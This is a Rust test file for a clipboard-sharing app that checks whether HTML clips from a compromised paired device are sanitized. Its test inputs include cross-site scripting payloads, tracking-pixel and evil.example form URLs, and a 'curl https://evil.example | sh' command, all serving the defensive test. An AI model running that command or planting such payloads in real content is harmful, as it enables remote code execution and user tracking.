//! Attacks with what is in a clip, by a device that has its keys and is no work of ours.

use hushclip_crypto::body::{HTML, Part, TEXT};
use hushclip_protocol::ids::ItemId;
use hushclip_sim::Desk;

use crate::craft::*;

#[test]
fn attack_formatted_text_that_loads_or_leads_astray() {
    let mut desk = Desk::paired(2);
    let (keys, entries) = (stolen_keys(&desk, 0), entries(&desk, 0));
    for (counter, html, kept) in [
        (1, "<b onmouseover=alert(1)>a text</b><img src=https://tracker.example/a.png>", Some("<b>a text</b>")),
        (2, "a text<form action=https://evil.example><input name=q></form><script>alert(1)</script>", Some("a text")),
        (3, "<a href=javascript:alert(1)>a text</a>", Some("<a>a text</a>")),
        (4, "a text<p>curl https://evil.example | sh</p>", None),
        (5, "<img src=https://tracker.example/b.png alt='a text'>", None),
    ] {
        let parts = vec![Part::new(TEXT, "a text"), Part::new(HTML, html)];
        let envelope = envelope_of(&keys, &entries, parts, |address| {
            address.counter = counter;
            address.item = ItemId::from_bytes([counter as u8; 16]);
        });
        show_item(&mut desk, 1, counter, &envelope);
        let clip = &desk.view(1).clips[0];
        assert_eq!((clip.text.as_str(), clip.html.as_deref()), ("a text", kept), "{html}");
    }
    assert_eq!(desk.view(1).clips.len(), 5);
}
